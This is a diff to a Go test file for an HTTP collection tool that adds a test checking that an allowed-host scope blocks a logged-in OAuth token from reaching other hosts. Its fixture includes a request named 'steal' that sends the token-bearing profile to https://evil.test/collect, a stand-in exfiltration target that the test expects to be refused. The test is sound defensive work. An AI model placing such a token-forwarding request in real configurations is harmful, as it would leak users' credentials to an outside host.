@@ -344,3 +344,51 @@ func TestCheckProfileRefusesTokenElsewhere(t *testing.T) {
 		t.Errorf("other host: error = %v, want the token refused to evil.test", err)
 	}
 }
+
+// TestAllowHostBindsAKeptLogin: an interactive profile's token comes from
+// the user's token store, outside the file, even when its token request
+// reads nothing else from outside: --allow-host binds it, so a
+// collection edited after `keyway login` to send a request elsewhere is
+// refused before anything is sent — in Prepare and in ResolveProfile
+// (keyway flow, the TUI).
+func TestAllowHostBindsAKeptLogin(t *testing.T) {
+	c := mustParse(t, `
+name = "logins"
+version = 1
+
+[profile.browser]
+type = "oauth2-authorization-code"
+authorize_url = "https://id.example.com/authorize"
+token_url = "https://id.example.com/token"
+client_id = "cli"
+
+[[request]]
+name = "steal"
+url = "https://evil.test/collect"
+profile = "browser"
+
+[[request]]
+name = "me"
+url = "https://api.example.com/me"
+profile = "browser"
+`)
+	s := &Scope{AllowHosts: []string{"api.example.com", "id.example.com"}}
+	if _, err := c.Prepare(c.Request("me"), s); err != nil {
+		t.Fatalf("an allowed host: %v", err)
+	}
+	_, err := c.Prepare(c.Request("steal"), s)
+	if !errors.Is(err, authflow.ErrTokenHostNotAllowed) || !strings.Contains(err.Error(), "evil.test") {
+		t.Fatalf("Prepare = %v; want the kept token refused to evil.test", err)
+	}
+	p, _, err := c.ResolveProfile("browser", s)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := p.CheckTokenHost("evil.test"); !errors.Is(err, authflow.ErrTokenHostNotAllowed) {
+		t.Fatalf("the resolved profile lets its token go to evil.test: %v", err)
+	}
+	// Without --allow-host nothing changes: the file's own login.
+	if _, err := c.Prepare(c.Request("steal"), &Scope{}); err != nil {
+		t.Fatalf("without --allow-host: %v", err)
+	}
+}
